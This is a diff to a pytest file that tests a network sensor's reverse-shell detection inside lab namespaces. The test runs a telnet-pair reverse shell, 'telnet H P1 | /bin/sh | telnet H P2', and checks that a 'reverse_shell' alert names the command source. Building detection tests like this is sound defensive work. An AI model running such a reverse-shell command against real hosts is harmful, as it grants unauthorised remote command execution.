@@ -205,7 +205,8 @@ ONE_SHOT = ("import socket,sys,time\ns=socket.socket();s.setsockopt(socket.SOL_S
             "c.sendall(bytes.fromhex(sys.argv[3]));time.sleep(1.5);c.close()")
 
 
-def test_telnet_pair(sensorlab, netlab) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_telnet_pair(sensorlab, netlab, ctx) -> None:
     """`telnet H P1 | sh | telnet H P2`: commands from one connection, output to the other."""
     need("telnet")
     out_port = next(_ports)
@@ -220,13 +221,14 @@ def test_telnet_pair(sensorlab, netlab) -> None:
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
     command, token = tagged(f"sleep 8 | telnet {host} {port} 2>/dev/null | /bin/sh 2>&1 | telnet {host} {out_port} "
                             ">/dev/null 2>&1")
-    netlab.spawn(netlab.victim_ns, ["timeout", "12", "bash", "-c", command],
+    netlab.spawn(netlab.victim_ns, ["timeout", "12", "bash", "-c", in_context(command, ctx)],
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     assert b"cw-42" in sink.wait(timeout=20)
     groups = incidents(c2_alerts(mine(sensorlab.alerts_since(mark, settle=1.5), token)))
     assert len(groups) == 1
     hit = [a for a in next(iter(groups.values())) if "reverse_shell" in a["chainwatch"]["signals"]]
     assert hit and hit[-1]["destination"] == {"ip": host, "port": port}  # where the commands come from
+    check_context(hit[-1], ctx)
     record_case(sensorlab, case_name(), emark, token, {"signal": "reverse_shell", "port": port})
 
 
